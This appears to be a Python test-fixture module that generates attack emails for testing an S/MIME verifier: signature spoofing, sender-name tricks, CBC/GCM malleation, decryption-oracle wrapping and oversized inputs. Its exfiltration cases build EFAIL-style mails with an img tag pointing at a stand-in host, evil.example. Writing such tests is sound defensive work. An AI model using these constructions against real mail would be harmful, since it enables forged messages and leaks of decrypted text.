"""Mails that attack whoever opens them: each class with its cases, made from real signatures and real ciphertext.

    for case in attack_mails(People(folder)): case.kind, case.name, case.octets, case.expected

Ann writes to Ben and Ben opens; Eve attacks. Eve has a certificate of the same authority for her own address, another
authority gave somebody the name and address of Ann, and Eve has seen Ann's mails to Ben as they travelled. `expected` is
what the report must say: "summary signature encryption integrity" (or another such, behind "|"), then findings that it must name
("+id"); or "error" with the exit code and the error's id. What no attack may reach, whatever it expects, is in attack_mails_test.py.
"""

import base64
import tempfile
from dataclasses import dataclass

from attack_layers import (chosen_text_in_cbc, encrypted_parts, flipped, ghost_signer, of_signed_data, recipients_many,
                           relabelled, signed_data, spoiled_signature)
from der import certificate_der, octets, tlv
from mime_parts import body_der, mail_header, signed_parts, split, wrap_cms, wrap_signed
from letterlock import expect
from pki import Authority, Person, run

ANN, BEN, EVE = "ann@own.example", "ben@peer.example", "eve@evil.example"
HEADER = mail_header(ANN, BEN, "Hi")
EVES = mail_header(EVE, BEN, "Hi")
TEXT = b"Content-Type: text/plain\r\n\r\nOnly we two.\r\n"
EVIL = b"Content-Type: text/plain\r\n\r\nPay Eve one million.\r\n"
BEACON = b"Content-Type: text/html\r\n\r\n"


@dataclass
class Case:
    kind: str
    name: str
    octets: bytes
    expected: str


class People:
    def __init__(self, folder):
        self.folder = folder
        self.authority = Authority(f"{folder}/ca")
        self.stranger = Authority(f"{folder}/stranger")  # the same name, another key
        self.ann = Person(self.authority, "Ann", ANN)
        self.ben = Person(self.authority, "Ben", BEN)
        self.eve = Person(self.authority, "Eve", EVE)
        self.false_ann = Person(self.stranger, "Ann", ANN)

    def write(self, octets):
        with tempfile.NamedTemporaryFile(dir=self.folder, suffix=".eml", delete=False) as file:
            file.write(octets)
        return file.name

    def seal(self, *options, message=HEADER + TEXT, by=None, to=None, more=()):
        """A mail of ours: signed by somebody, encrypted to Ben or somebody."""
        # The attacks are on the outer fields, too, unless a case protects them.
        words = [*options] if "--header-protection" in options else [*options, "--header-protection", "off"]
        if by:
            words += ["--sign-with", by.sign_p12, "--password-file", by.password_file]
        if to:
            words += ["--encrypt-to", f"{to.encryption}.pem", "--cipher", *more]
        return expect(0, "seal", *words, self.write(message)).stdout

    def cms(self, entity, *signers, detached=True, options=()):
        """SignedData of the openssl program, DER; several signers at once."""
        words = [word for one in signers for word in ("-signer", f"{one.signing}.pem", "-inkey", f"{one.signing}.key")]
        form = [] if detached else ["-nodetach"]
        return run("openssl", "cms", "-sign", "-binary", *form, *words, *options, "-outform", "DER", stdin=entity).stdout

    def decrypted(self, der):
        """What the openssl program makes of it with Ben's key."""
        return run("openssl", "cms", "-decrypt", "-binary", "-inform", "DER", "-inkey", f"{self.ben.encryption}.key", "-recip",
                   f"{self.ben.encryption}.pem", stdin=der).stdout

    def enveloped(self, entity, cipher="-aes-256-cbc", to=None):
        old = ["-provider", "default", "-provider", "legacy"] if cipher.startswith("-rc2") else []
        return run("openssl", "cms", "-encrypt", "-binary", *old, cipher, "-outform", "DER", f"{(to or self.ben).encryption}.pem",
                   stdin=entity).stdout


def multipart(kind, *parts, boundary=b"=_b"):
    body = b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in parts)
    return b"Content-Type: multipart/" + kind + b'; boundary="' + boundary + b'"\r\n\r\n' + body + b"--" + boundary + b"--\r\n"


def entity_of(mail):
    """A mail's content without the fields of its header that say who wrote it."""
    header, body = split(mail)
    lines = header.replace(b"\r\n ", b"\0 ").replace(b"\r\n\t", b"\0\t").split(b"\r\n")
    kept = [line.replace(b"\0", b"\r\n") for line in lines if line.lower().startswith((b"content-", b"mime-"))]
    return b"\r\n".join(kept) + b"\r\n\r\n" + body


def econtent_confusion(p):
    evil, ann = "none invalid none none", p.cms(TEXT, p.ann)
    opaque = p.cms(TEXT, p.ann, detached=False)
    yield "the signed content hides in the signature", wrap_signed(TEXT, opaque, HEADER), f"{evil} +econtent-in-detached"
    yield "the signed content hides behind another", wrap_signed(EVIL, opaque, HEADER), f"{evil} +econtent-in-detached"
    yield "an empty content hides in it", wrap_signed(TEXT, of_signed_data(ann, econtent=octets(b"")), HEADER), evil
    split_content = tlv(0x24, octets(TEXT[:9]) + octets(TEXT[9:]))
    yield ("a content in pieces hides in it", wrap_signed(EVIL, of_signed_data(ann, econtent=split_content), HEADER), evil)
    yield "detached, sent as opaque", wrap_cms(ann, HEADER, "signed-data"), evil
    stamped = p.cms(TEXT, p.ann, detached=False, options=["-econtent_type", "1.2.840.113549.1.9.16.1.4"])
    yield "signed as a time stamp", wrap_cms(stamped, HEADER, "signed-data"), f"{evil} +content-type-mismatch"
    renamed = of_signed_data(stamped, content_type="1.2.840.113549.1.7.1")
    yield "a time stamp renamed to mail", wrap_cms(renamed, HEADER, "signed-data"), evil
    attributes, bare = signed_data(ann).attributes_as_content()
    yield ("signed attributes as the content", wrap_cms(bare, HEADER, "signed-data"), evil)
    yield "signed attributes as a detached content", wrap_signed(attributes, signed_data(ann).without_attributes(), HEADER), evil
    yield "another text, the old signature", wrap_signed(EVIL, ann, HEADER), f"{evil} +digest-mismatch"


def no_signer(p):
    certificates = run("openssl", "crl2pkcs7", "-nocrl", "-certfile", f"{p.ann.signing}.pem", "-outform", "DER").stdout
    nobody = of_signed_data(p.cms(TEXT, p.ann, detached=False), signers=[])
    yield "certificates in the place of a signature", wrap_signed(TEXT, certificates, HEADER), "none none none none"
    yield "opaque, with content, signed by nobody", wrap_cms(nobody, HEADER, "signed-data"), "none none none none +no-signer"
    inside = wrap_cms(nobody, b"", "signed-data")
    yield ("signed by nobody, inside encryption", wrap_cms(p.enveloped(inside), HEADER, "enveloped-data"),
           "encrypted none strong none +no-signer")
    nobody_detached = of_signed_data(p.cms(TEXT, p.ann), signers=[])
    yield "detached, signed by nobody", wrap_signed(TEXT, nobody_detached, HEADER), "none none none none +no-signer"


def extra_signer(p):
    evil = "none invalid none none"
    two = p.cms(TEXT, p.ann, p.eve)
    yield "a second one of Eve's", wrap_signed(TEXT, two, HEADER), evil
    yield "Eve's alone below Ann's name", wrap_signed(TEXT, p.cms(TEXT, p.eve), HEADER), f"{evil} +address-mismatch"
    yield "a second one that is wrong", wrap_signed(TEXT, spoiled_signature(two, 1), HEADER), evil
    yield "the first of two is wrong", wrap_signed(TEXT, spoiled_signature(two, 0), HEADER), evil
    false_second = p.cms(TEXT, p.ann, p.false_ann)
    yield ("a second one of a stranger of the same name", wrap_signed(TEXT, false_second, HEADER),
           "none unknown none signature +unknown-authority")
    yield ("a second one without its certificate", wrap_signed(TEXT, ghost_signer(p.cms(TEXT, p.ann), p.cms(TEXT, p.eve)), HEADER),
           "none unknown none signature +signer-certificate-missing")
    stranger = wrap_signed(TEXT, p.cms(TEXT, p.false_ann), HEADER)
    yield "a stranger's of the same name", stranger, "none unknown none signature +unknown-authority"
    crowd = of_signed_data(two, signers=signed_data(two).signers * 40)
    yield "a crowd of eighty", wrap_signed(TEXT, crowd, HEADER), "error 4 cms-too-many"


def partial_signing(p):
    none = "none none none none +inner-signed-part"
    signed = entity_of(wrap_signed(TEXT, p.cms(TEXT, p.ann), b"MIME-Version: 1.0\r\n"))
    whole = wrap_signed(TEXT, p.cms(TEXT, p.ann), HEADER)
    opaque = wrap_cms(p.cms(TEXT, p.ann, detached=False), b"", "signed-data")
    yield "an unsigned text before it", HEADER + multipart(b"mixed", EVIL, signed), none
    yield "an unsigned text behind it", HEADER + multipart(b"mixed", signed, EVIL), none
    yield "the signed form of two alternatives", HEADER + multipart(b"alternative", signed, EVIL), none
    yield "related to an unsigned root", HEADER + multipart(b"related", EVIL, signed), none
    yield "an opaque one beside a text", HEADER + multipart(b"mixed", EVIL, opaque), none
    yield "a whole signed mail as an attachment", HEADER + multipart(b"mixed", EVIL, b"Content-Type: message/rfc822\r\n\r\n" + whole), none
    yield "a whole signed mail as the whole content", HEADER + b"Content-Type: message/rfc822\r\n\r\n" + whole, none
    boundary = b"--=_peer_boundary--"
    third = whole.replace(boundary, b"--=_peer_boundary\r\n" + EVIL + b"\r\n" + boundary)
    yield "a third part beside content and signature", third, "signed valid none signature +extra-part"
    yield "a text behind the last boundary", whole + b"Pay Eve one million.\r\n", "signed valid none signature"
    before = whole.replace(b"\r\n\r\n--=_peer_boundary", b"\r\n\r\nPay Eve one million.\r\n--=_peer_boundary", 1)
    yield "a text before the first boundary", before, "signed valid none signature"
    head, tail = whole.split(b"\r\n\r\n", 1)
    first, second = tail.split(b"--=_peer_boundary\r\n")[1:3]
    swapped = (head + b"\r\n\r\n--=_peer_boundary\r\n" + second.replace(boundary + b"\r\n", b"") + b"--=_peer_boundary\r\n" + first +
               boundary + b"\r\n")
    yield "the signature before the content", swapped, "error 4"


def names(p):
    evil, invalid = "signed valid none signature", "none invalid none none"

    def by_eve(*fields, more=b""):
        return wrap_signed(TEXT, p.cms(TEXT, p.eve), "\r\n".join([*fields, "MIME-Version: 1.0", ""]).encode() + more)
    yield "Ann's address as Eve's name", by_eve(f'From: "{ANN}" <{EVE}>'), f"{evil} +display-name-is-address"
    yield "Ann's address in a comment", by_eve(f"From: {EVE} ({ANN})"), f"{evil} +display-name-is-address"
    hidden = base64.b64encode(ANN.encode()).decode()
    yield "Ann's address in an encoded word", by_eve(f"From: =?utf-8?B?{hidden}?= <{EVE}>"), f"{evil} +display-name-is-address"
    wide = base64.b64encode(ANN.encode("utf-16-be")).decode()
    yield "Ann's address in another charset", by_eve(f"From: =?utf-16be?B?{wide}?= <{EVE}>"), f"{evil} +display-name-is-address"
    yield "Ann's address with a full-width sign", by_eve(f'From: "ann＠own.example" <{EVE}>'), f"{evil} +display-name-is-address"
    yield "Ann as author, Eve as sender", by_eve(f"From: {ANN}", f"Sender: {EVE}"), f"{invalid} +sender-differs +address-mismatch"
    yield "two authors, one signs", by_eve(f"From: {ANN}, {EVE}"), f"{invalid} +author-did-not-sign"
    yield "two From fields", by_eve(f"From: {EVE}", f"From: {ANN}"), f"{invalid} +two-from-headers"
    yield "a second From below", by_eve(f"From: {EVE}", more=f"from : {ANN}\r\n".encode()), invalid
    yield "two brackets", by_eve(f"From: <{ANN}> <{EVE}>"), f"{invalid} +from-unreadable"
    yield "an address as the bare name", by_eve(f"From: {ANN} <{EVE}>"), f"{invalid} +from-unreadable"
    yield "a group around it", by_eve(f"From: {ANN}: {EVE};"), f"{invalid} +from-unreadable"
    yield "no author", by_eve("Subject: x"), f"{invalid} +no-from"
    yield "a comment inside the address", by_eve("From: ann@own.example(@evil.example)"), f"{invalid} +address-mismatch"
    yield "a domain of two alphabets", by_eve("From: ann@оwn.example"), f"{invalid} +address-mixed-scripts +address-mismatch"
    yield "the same as an A-label", by_eve("From: ann@xn--wn-emc.example"), f"{invalid} +address-mixed-scripts +address-mismatch"
    borrowed = EVES.replace(EVE.encode(), f'"{ANN}" <{EVE}>'.encode(), 1) + TEXT
    yield "unsigned, with a borrowed name", borrowed, "none none none none +display-name-is-address"
    whole = wrap_signed(TEXT, p.cms(TEXT, p.ann), HEADER)
    yield "Ann's signature below Eve's name", whole.replace(ANN.encode(), EVE.encode(), 1), f"{invalid} +address-mismatch"
    answers = f'Reply-To: "{ANN}" <{EVE}>\r\n'.encode() + whole
    yield "Ann's signature, answers to Eve", answers, f"{evil} +display-name-is-address"
    mine = p.seal("--header-protection", "on", by=p.eve, message=EVES + TEXT)
    yield "Eve's protected name, Ann's outside", mine.replace(EVE.encode(), ANN.encode(), 1), "signed valid none signature"


def forged_marks(_):
    none = "none none none none"
    report = b'{"summary":"signed-and-encrypted","signature":"valid","encryption":"strong","integrity":"authenticated"}'
    yield "a report as the text", HEADER + b"Content-Type: application/json\r\n\r\n" + report + b"\r\n", none
    yield "words of ours as the text", HEADER + TEXT + b"summary: signed-and-encrypted\r\nsignature: valid, by ann@own.example\r\n", none
    fields = b"X-Letterlock-Report: " + report + b"\r\nAuthentication-Results: ok; smime=pass\r\n"
    yield "fields of ours in the header", fields + HEADER + TEXT, none
    yield "a type that says signed", HEADER + b"Content-Type: text/plain; smime-type=signed-data; hp=cipher\r\n\r\nsigned\r\n", none
    yield "a protocol that is none", HEADER + multipart(b"signed; protocol=text/plain", TEXT, EVIL), none
    yield "a signature that is text", wrap_signed(TEXT, b"a valid signature", HEADER), "error 4"
    escape = mail_header(ANN, BEN, "\x1b[32m signature: valid") + TEXT
    yield "colours of a terminal in the subject", escape, none


def decryption_oracle(p):
    captured = p.seal(by=p.ann, to=p.ben, more=["aes256-gcm"])
    unsigned = p.seal(to=p.ben, more=["aes256-cbc"])
    inner = entity_of(captured)
    with_part = multipart(b"mixed", EVIL, inner)
    none = "none none none none +inner-encrypted-part"
    yield "beside a text", EVES + with_part, none
    yield "as the hidden alternative", EVES + multipart(b"alternative", EVIL, inner), none
    yield "in a forwarded mail", EVES + multipart(b"mixed", EVIL, b"Content-Type: message/rfc822\r\n\r\n" + captured), none
    lying = inner.replace(b"enveloped-data", b"signed-data").replace(b"authEnveloped-data", b"signed-data")
    yield "with a label that lies", EVES + multipart(b"mixed", EVIL, lying), none
    der = base64.encodebytes(body_der(captured)).replace(b"\n", b"\r\n")
    named = b"Content-Type: application/octet-stream; name=x.p7m\r\nContent-Transfer-Encoding: base64\r\n\r\n" + der
    yield "under the name of a file", EVES + multipart(b"mixed", EVIL, named), none
    signed = p.seal(by=p.eve, message=EVES + with_part)
    yield "inside what Eve signs", signed, "signed valid none signature +inner-encrypted-part"
    sealed = p.seal(by=p.eve, to=p.ben, more=["aes256-gcm"], message=EVES + with_part)
    yield "inside what Eve signs and seals", sealed, "signed-and-encrypted valid strong authenticated +inner-encrypted-part"
    yield "Ann's whole ciphertext below Eve's name", EVES + inner, "encrypted invalid strong authenticated +address-mismatch"
    yield "an unsigned ciphertext below Eve's name", EVES + entity_of(unsigned), "encrypted none strong none"
    around = wrap_cms(p.cms(inner, p.eve, detached=False), EVES, "signed-data")
    yield "Eve's signature around the whole of it", around, "encrypted invalid strong authenticated +address-mismatch"
    bare = wrap_cms(p.cms(entity_of(unsigned), p.eve, detached=False), EVES, "signed-data")
    yield "Eve's signature around an unsigned one", bare, "signed-and-encrypted valid strong signature +signed-outside-encryption"
    for _ in range(9):
        captured = wrap_cms(p.enveloped(entity_of(captured)), EVES, "enveloped-data")
    yield "nine layers of encryption around it", captured, "none none undecrypted none +decryption-failed"


def cbc_gadgets(p):
    # What is garbage in between may look like text by chance; then it is what its maker may have meant, and unsigned.
    garbage = "none none undecrypted none|encrypted none strong none"
    plain = p.seal(to=p.ben, more=["aes256-cbc"])
    signed = p.seal(by=p.ann, to=p.ben, more=["aes256-cbc"])
    wide = p.seal(to=p.ben, more=["aes256-cbc"], message=HEADER + b"Content-Type: text/plain\r\n\r\n" + b"0123456789abcdef" * 20 + b"\r\n")
    rewritten = encrypted_parts(body_der(plain)).with_first_block(b"Content-Type: te", b"Content-Type: xx")
    yield "the first block rewritten by its vector", wrap_cms(rewritten, HEADER, "enveloped-data"), "encrypted none strong none"
    blocks = encrypted_parts(body_der(wide))
    yield "two blocks exchanged", wrap_cms(blocks.swapped(3, 5), HEADER, "enveloped-data"), garbage
    yield "a block repeated", wrap_cms(blocks.repeated(4), HEADER, "enveloped-data"), garbage
    yield "blocks cut off at the end", wrap_cms(blocks.cut(3), HEADER, "enveloped-data"), garbage
    inside = encrypted_parts(body_der(signed))
    yield "a block exchanged below a signature", wrap_cms(inside.swapped(20, 30), HEADER, "enveloped-data"), garbage
    yield "a bit of the vector below a signature", wrap_cms(inside.vector_flipped(), HEADER, "enveloped-data"), "encrypted none strong none"
    for cipher in ("-des3", "-rc2-40", "-rc2-64", "-rc2-128"):
        old = wrap_cms(p.enveloped(TEXT, cipher), HEADER, "enveloped-data")
        yield f"{cipher[1:]} in the place of AES", old, "none none legacy none +legacy-encryption"


def gcm_to_cbc(p):
    gcm = p.seal(by=p.ann, to=p.ben, more=["aes256-gcm"])
    der = body_der(gcm)
    undecrypted, garbage = "none none undecrypted none", "none none undecrypted none|encrypted none strong none"
    yield "re-labelled as it is", wrap_cms(relabelled(der, "2.16.840.1.101.3.4.1.42"), HEADER, "enveloped-data"), undecrypted
    yield "re-labelled as AES-128", wrap_cms(relabelled(der, "2.16.840.1.101.3.4.1.2"), HEADER, "enveloped-data"), undecrypted
    chosen = chosen_text_in_cbc(der, known=b"Content-Type: ap", wanted=b"Content-Type: x\n")
    assert p.decrypted(chosen).startswith(b"Content-Type: x\n"), "the attack is real: other programs show her text"
    yield "a text of Eve's own choice by known keystream", wrap_cms(chosen, HEADER, "enveloped-data"), garbage
    keep = relabelled(der, "2.16.840.1.101.3.4.1.42", authenticated=True)
    yield "CBC in what says authenticated", wrap_cms(keep, HEADER, "authEnveloped-data"), "error 4"
    moved = relabelled(der, None)
    yield "GCM in what says enveloped", wrap_cms(moved, HEADER, "enveloped-data"), "error 4"
    chacha = relabelled(der, "1.2.840.113549.1.9.16.3.18", authenticated=True)
    yield "GCM renamed to ChaCha20", wrap_cms(chacha, HEADER, "authEnveloped-data"), undecrypted
    yield "a bit of the tag", wrap_cms(flipped(der, -8), HEADER, "authEnveloped-data"), undecrypted
    yield "a bit of the text", wrap_cms(flipped(der, -60), HEADER, "authEnveloped-data"), undecrypted


def exfiltration(p):
    inner = entity_of(p.seal(by=p.ann, to=p.ben, more=["aes256-cbc"]))
    none = "none none none none +inner-encrypted-part"
    before, behind = BEACON + b"<img src=\"http://evil.example/", BEACON + b"\">"
    yield "between two halves of an address", EVES + multipart(b"mixed", before, inner, behind), none
    yield "related to a page", EVES + multipart(b"related", before, inner, behind), none
    yield "one more multipart down", EVES + multipart(b"mixed", before, multipart(b"mixed", inner, boundary=b"=_c"), behind), none
    nested = multipart(b"mixed", before, inner, behind)
    sealed = wrap_cms(p.enveloped(nested), EVES, "enveloped-data")
    yield "inside Eve's own encryption", sealed, "encrypted none strong none +inner-encrypted-part"
    half = base64.b64decode(split(inner)[1])
    a, b = (base64.encodebytes(one).replace(b"\n", b"\r\n") for one in (half[:300], half[300:]))
    head = split(inner)[0] + b"\r\n\r\n"
    yield "in two halves", EVES + multipart(b"mixed", head + a, head + b), "none none none none"


def duplicates(p):
    whole = wrap_signed(TEXT, p.cms(TEXT, p.ann), HEADER)
    yield "two types of the whole", b"Content-Type: text/plain\r\n" + whole, "none none none none"
    yield "the second type is text", HEADER + b"Content-Type: text/plain\r\n" + whole[len(HEADER):], "none none none none"
    sealed = p.seal(by=p.ann, to=p.ben, more=["aes256-gcm"])
    yield "two encodings of the whole", b"Content-Transfer-Encoding: quoted-printable\r\n" + sealed, "error 4"
    yield "two subjects", b"Subject: Pay Eve\r\n" + whole, "signed valid none signature"
    inner = b"Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\nOnly we two.\r\n"
    yield "two types of what is signed", wrap_signed(inner, p.cms(inner, p.ann), HEADER), "signed valid none signature"


def oversized(p):
    yield "ten thousand fields", b"".join(b"X-%d: x\r\n" % i for i in range(10_000)) + HEADER + TEXT, "error 4 mime-header-too-many"
    yield "one field of a megabyte", b"X: " + b"x" * 1_000_000 + b"\r\n" + HEADER + TEXT, "error 4 mime-header-too-large"
    deep = TEXT
    for i in range(200):
        deep = multipart(b"mixed", deep, boundary=b"=_%d" % i)
    yield "two hundred multiparts in one another", HEADER + deep, "error 4 mime-too-deep"
    yield "twenty thousand parts", HEADER + multipart(b"mixed", *[b"\r\nx"] * 20_000), "error 4 mime-too-many-parts"
    der = body_der(p.seal(to=p.ben, more=["aes256-gcm"]))
    yield "ten thousand and one recipients", wrap_cms(recipients_many(der, 10_001), HEADER, "authEnveloped-data"), "error 4 cms-too-many"
    liar = b"\x30\x88\x7f\xff\xff\xff\xff\xff\xff\xff"
    yield "a length of nine quintillions", wrap_cms(liar, HEADER, "signed-data"), "error 4"
    yield "sequences without end", wrap_cms(b"\x30\x80" * 5000, HEADER, "signed-data"), "error 4"
    certificate = certificate_der(f"{p.ann.signing}.pem")
    crowd = of_signed_data(p.cms(TEXT, p.ann), certificates=[certificate] * 3000)
    yield "three thousand certificates", wrap_signed(TEXT, crowd, HEADER), "error 4 cms-too-many"


def substitution(p):
    unknown, invalid = "none unknown none signature", "none invalid none none"
    ann = p.cms(TEXT, p.ann)
    other = certificate_der(f"{p.false_ann.signing}.pem")
    yield "another certificate in her place", wrap_signed(TEXT, of_signed_data(ann, certificates=[other]), HEADER), "none unknown none none"
    named = of_signed_data(ann, certificates=[other], signers=[signed_data(ann).signer_of(other)])
    yield "her signature in a stranger's name", wrap_signed(TEXT, named, HEADER), invalid
    swapped = p.seal("--encryption-cert", f"{p.eve.encryption}.pem", by=p.eve, message=EVES + TEXT)
    yield "Eve's own, to compare", swapped, "signed valid none signature"
    foreign = p.seal("--encryption-cert", f"{p.ann.encryption}.pem", by=p.eve, message=EVES + TEXT)
    yield ("another's encryption certificate announced", foreign,
           "signed valid none signature +encryption-certificate-other-subject")
    twin = second_certificate(p)
    keyid = p.cms(TEXT, p.ann, options=["-keyid", "-cades"])
    yield ("another certificate of the same key", wrap_signed(TEXT, of_signed_data(keyid, certificates=[twin]), HEADER),
           f"{invalid} +signing-certificate-mismatch")
    web = p.authority.issue_server(ANN.split("@")[1])
    tls = run("openssl", "cms", "-sign", "-binary", "-signer", f"{web}.pem", "-inkey", f"{web}.key", "-outform", "DER", stdin=TEXT).stdout
    yield "a web server's certificate", wrap_signed(TEXT, tls, HEADER), f"{invalid} +extended-key-usage-not-email"
    sealer = run("openssl", "cms", "-sign", "-binary", "-signer", f"{p.ann.encryption}.pem", "-inkey", f"{p.ann.encryption}.key",
                 "-outform", "DER", stdin=TEXT).stdout
    yield "her encryption key signs", wrap_signed(TEXT, sealer, HEADER), f"{invalid} +key-usage-not-permitted"
    smuggled = p.cms(TEXT, p.false_ann, options=["-certfile", p.stranger.certificate])
    yield "a stranger's authority comes along", wrap_signed(TEXT, smuggled, HEADER), f"{unknown} +unknown-authority"


def second_certificate(p):
    """Ann's key certified once more, for an address of Eve's choice."""
    stem = f"{p.folder}/twin"
    with open(f"{stem}.ext", "w") as file:
        file.write(f"keyUsage = critical,digitalSignature\nsubjectKeyIdentifier = hash\nsubjectAltName = email:{ANN}\n")
    with p.authority.one_at_a_time:
        run("openssl", "ca", "-batch", "-in", f"{p.ann.signing}.csr", "-out", f"{stem}.pem", "-config", p.authority.config, "-extfile",
            f"{stem}.ext", "-notext", "-utf8", "-startdate", "20210101000000Z", "-enddate", "20390101000000Z")
    return certificate_der(f"{stem}.pem")


def replay(p):
    """Ann's own signatures, true and out of place: they verify, and what is out of place is said."""
    valid = "signed valid none signature"
    whole = wrap_signed(TEXT, p.cms(TEXT, p.ann), HEADER)
    yield "the same again", whole, f"{valid} +signing-time-differs"
    late = whole.replace(b"Mon, 23 Nov 2026", b"Wed, 23 Nov 2033")
    yield "old mail with a new date", late, f"{valid} +signing-time-differs"
    yield "to somebody else", whole.replace(BEN.encode(), b"carol@peer.example", 1), valid
    clear = p.seal("--header-protection", "on", by=p.ann)
    wrapped = wrap_cms(p.enveloped(entity_of(clear)), HEADER, "enveloped-data")
    yield "signed mail wrapped anew", wrapped, "signed-and-encrypted valid strong signature +not-bound-to-sender"
    yield "protected fields, another subject outside", clear.replace(b"Subject: Hi", b"Subject: Pay Eve", 1), valid


CLASSES = {
    "eContent confusion": econtent_confusion, "no signer": no_signer, "extra signer": extra_signer, "partial signing": partial_signing,
    "names": names, "forged marks": forged_marks, "decryption oracle": decryption_oracle, "CBC gadgets": cbc_gadgets,
    "GCM to CBC": gcm_to_cbc, "exfiltration": exfiltration, "duplicate fields": duplicates, "oversized": oversized,
    "substitution": substitution, "replay": replay,
}


def attack_mails(people):
    for kind, cases in CLASSES.items():
        for name, mail, expected in cases(people):
            yield Case(kind, name, mail, expected)
